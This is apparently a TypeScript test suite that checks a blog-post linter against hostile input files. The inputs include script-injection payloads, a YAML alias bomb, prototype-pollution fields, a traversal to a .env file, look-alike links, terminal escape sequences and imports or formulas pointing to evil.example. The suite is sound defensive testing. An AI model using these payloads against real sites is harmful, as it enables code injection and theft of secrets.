import { spawnSync } from 'node:child_process';
import { truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { toLine } from '#lib/problem.ts';
import { readLibrary } from '#library/read.ts';
import { findProblems } from '#rules/index.ts';
import { POST_FILE, writeFolder } from '../../fixtures/folder.ts';

// What a stranger might send, one file each in a folder of sound ones: it ends in a problem that names file and line and
// says how to mend it, in bounded time, and nothing else is lost.

const post = (change: (text: string) => string) => change(POST_FILE);
const withFields = (fields: string) =>
  post((text) => text.replace('state: published', `state: published\n${fields}`));
const withText = (words: string) => post((text) => text.replace('A plain sentence.', words));
const bytes = (text: string, encoding: BufferEncoding) => new Uint8Array(Buffer.from(text, encoding));
const nested = (open: string, close: string) => `${open.repeat(1_000)}a${close.repeat(1_000)}`;
const bomb = Array.from({ length: 9 }, (_, i) => `b${i + 1}: &b${i + 1} [${Array(9).fill(`*b${i}`).join(', ')}]`).join('\n'); // prettier-ignore
const at = (line: number, rule: string) => `posts/nasty.mdx:${line} ${rule}`;

const NASTY: readonly (readonly [what: string, file: string | Uint8Array, problem: string])[] = [
  // Bytes
  ['50 MB of letters', new Uint8Array(50_000_000).fill(0x61), at(1, 'encoding')],
  ['UTF-16', new Uint8Array([0xff, 0xfe, ...bytes(POST_FILE, 'utf16le')]), at(1, 'encoding')],
  ['half a character', new Uint8Array([...bytes(POST_FILE, 'utf8'), 0xe2, 0x82]), at(1, 'encoding')],
  ['a letter written too long', new Uint8Array([...bytes(POST_FILE, 'utf8'), 0xc1, 0x81]), at(1, 'encoding')],
  ['a byte order mark after another', `\uFEFF\uFEFF${POST_FILE}`, at(1, 'front-matter')],
  ['a byte of nothing', withText('Words\0 here.'), at(12, 'hidden-character')],
  ['a bidirectional control', withText('Words \u202Eereh\u202C.'), at(12, 'hidden-character')],
  ['a zero-width space', withText('pati\u200Bent'), at(12, 'hidden-character')],
  ['tag characters', withText('Words\u{E0041}\u{E0042}'), at(12, 'hidden-character')],
  ['Windows line ends and a fault', withText('{x}').replaceAll('\n', '\r\n'), at(12, 'code')],
  ['old Mac line ends and a fault', withText('{x}').replaceAll('\n', '\r'), at(12, 'code')],
  // Front matter
  ['another kind of front matter', '+++\ntitle = "x"\n+++\n', at(1, 'front-matter')],
  ['front matter that is a program', '---js\nprocess.exit()\n---\n', at(1, 'front-matter')],
  ['a thousand lists in lists', withFields(`checks: ${nested('[', ']')}`), at(10, 'yaml')],
  ['a thousand groups in groups', withFields(`x: ${nested('{a: ', '}')}`), at(10, 'yaml')],
  ['a thousand hyphens', withFields(`x:\n  ${'- '.repeat(1_000)}a`), at(11, 'yaml')],
  ['a staircase of fields', withFields(Array.from({ length: 150 }, (_, step) => `${' '.repeat(step)}a:`).join('\n')), at(110, 'yaml')], // prettier-ignore
  ['aliases of aliases', withFields(`b0: &b0 [x]\n${bomb}`), at(10, 'yaml')],
  ['the prototype as a field', withFields('__proto__: { state: published }'), at(10, 'yaml')],
  ['the constructor as a field', withFields('constructor: { prototype: x }'), at(10, 'fields')],
  ['a merge key', withFields('<<: { state: published }'), at(10, 'yaml')],
  ['a tag that makes something', withFields('x: !!js/function "x"'), at(10, 'yaml')],
  ['an address of its own', withFields('slug: first-week'), at(10, 'fields')],
  ['a layout from elsewhere', withFields('layout: "data:text/javascript,1"'), at(10, 'fields')],
  ['a state that stands twice', withFields('"sta\\u0074e": draft'), at(10, 'yaml')],
  ['a control sequence of a terminal', post((text) => text.replace('My first week', '"\\e]0;x\\a\\e[2J"')), at(2, 'fields')], // prettier-ignore
  ['a look-alike letter in an id', post((text) => text.replace('robin-example', 'rоbin-example')), at(5, 'fields')],
  ['an id that every object has', post((text) => text.replace('[resting]', '[constructor]')), at(7, 'unknown-id')],
  ['a day that does not exist', post((text) => text.replace('2026-01-10', '2025-02-30')), at(6, 'fields')],
  ['the address of another text', withFields('formerIds: [first-week]'), at(10, 'former-id')],
  ['an address below every other', withFields('formerIds: ["*", "../x"]'), at(10, 'fields')],
  // Text
  ['a thousand quotations in quotations', withText(`${'> '.repeat(1_000)}a`), at(12, 'too-deep')],
  ['a thousand tags in tags', withText(nested('<q>', '</q>')), at(12, 'repetition')],
  ['a program', withText('{process.env.SECRET}'), at(12, 'code')],
  ['a program from elsewhere', withText('import x from "https://evil.example/x.js"'), at(12, 'code')],
  ['a script', withText('<script>alert(1)</script>'), at(12, 'mark')],
  ['markup set from text', withText('<Fragment set:html="<script>" />'), at(12, 'mark')],
  ['a drawing with a script', withText('<svg onload="alert(1)" />'), at(12, 'mark')],
  ['a link that is a program', withText('[here](javascript:alert(1))'), at(12, 'link')],
  ['a link that is a page', withText('[here](data:text/html,<script>)'), at(12, 'link')],
  ['a link that shows another site', withText('[jobs at www.nhs.uk](https://evil.example/)'), at(12, 'link')],
  ['a link to a site in look-alike letters', withText('[here](https://www.nһs.uk/)'), at(12, 'link')],
  ['a link out by another way', withText('[here](/%2f%2fevil.example/)'), at(12, 'link')],
  ['a link to a page that is not there', withText('[here](/no-such-page/)'), at(12, 'inner-link')],
  ['a picture that is a program', withText('![A river](./x.js)'), at(12, 'picture')],
  ['a picture out of the folder', withText('![A river](../../.env?raw)'), at(12, 'picture')],
  ['words of somebody else', withText('<Passage by="otterly">\n\nI am Otterly.\n\n</Passage>'), at(12, 'passage')],
  ['a source that every object has', withText('Words <Cite id="constructor" />.'), at(12, 'unknown-id')],
]; // prettier-ignore

test.each(NASTY)('%s', (_what, file, problem) => {
  const root = writeFolder({ 'posts/nasty.mdx': file });
  const start = process.threadCpuUsage().user;
  const { library, problems, whole } = readLibrary(root);
  const all = [...problems, ...findProblems(library, problems, whole)];
  // Microseconds of this thread alone: what else the machine does is no fault of the file.
  expect(process.threadCpuUsage().user - start).toBeLessThan(2_000_000);
  const errors = all.filter(({ level }) => level === 'error');
  expect(errors.map(({ file: name, line, rule }) => `${name.replace(/^.*?(?=posts\/)/, '')}:${line} ${rule}`)).toContain(problem);
  for (const error of errors) expect(toLine(error)).toMatch(/^[^\p{Cc}]*posts\/nasty\.mdx:\d+:\d+ {2}[^\p{Cc}]+ {2}Mend: [^\p{Cc}]+$/u);
  expect(errors.length).toBeLessThanOrEqual(20);
  expect(library.posts.map(({ id }) => id)).toContain('first-week');
}); // prettier-ignore

test.each([
  ['a program in a title', post((text) => text.replace('My first week', "'</title></script><script>alert(1)</script>]]>-->'"))],
  ['a formula', post((text) => text.replace('A week of invented events.', "'=HYPERLINK(\"https://evil.example\")'"))],
  ['markup as words', withText('5 &lt; 6, `<script>` and \\<b> and \\{x\\} and $& and ${'.slice(0, -2))],
  ['an even more innocent text', withText('Łódź, Llanfairpwll, عربي, 😀 and می\u200Cخواهم.')],
])('is harmless, and stays: %s', (_what, file) => {
  const { library, problems, whole } = readLibrary(writeFolder({ 'posts/nasty.mdx': file }));
  const all = [...problems, ...findProblems(library, problems, whole)];
  expect(all.filter(({ level }) => level === 'error').map(toLine)).toEqual([]);
  expect(library.posts).toHaveLength(2);
}); // prettier-ignore

test('a file that is larger than memory, a pipe, and names that act on a terminal are named', () => {
  const root = writeFolder({ 'posts/\u001B[2J\n::error::.mdx': 'x' });
  for (const name of ['posts/huge.mdx', 'facts.yaml', 'addresses.txt']) {
    writeFileSync(join(root, name), '');
    // A file of holes: it says that it is large and takes no room.
    truncateSync(join(root, name), 5_000_000_000);
  }
  spawnSync('mkfifo', [join(root, 'posts/pipe.mdx')]);
  const { library, problems } = readLibrary(root);
  const shown = problems.map(toLine).map((line) => line.slice(line.indexOf('midstream-')).replace(/^[^/]*\//, ''));
  expect(shown.map((line) => line.split('  ').slice(0, 2).join(' '))).toEqual([
    'addresses.txt:1:1 encoding',
    'facts.yaml:1:1 encoding',
    'posts/[2J ::error::.mdx:1:1 file-name',
    'posts/huge.mdx:1:1 encoding',
    'posts/pipe.mdx:1:1 file-name',
  ]);
  expect(library.posts.map(({ id }) => id)).toEqual(['first-week']);
}); // prettier-ignore

test('a ledger of addresses that is none has a bounded number of problems', () => {
  const { problems } = readLibrary(writeFolder({ 'addresses.txt': 'x\n'.repeat(500_000) }));
  expect(problems).toHaveLength(20);
});
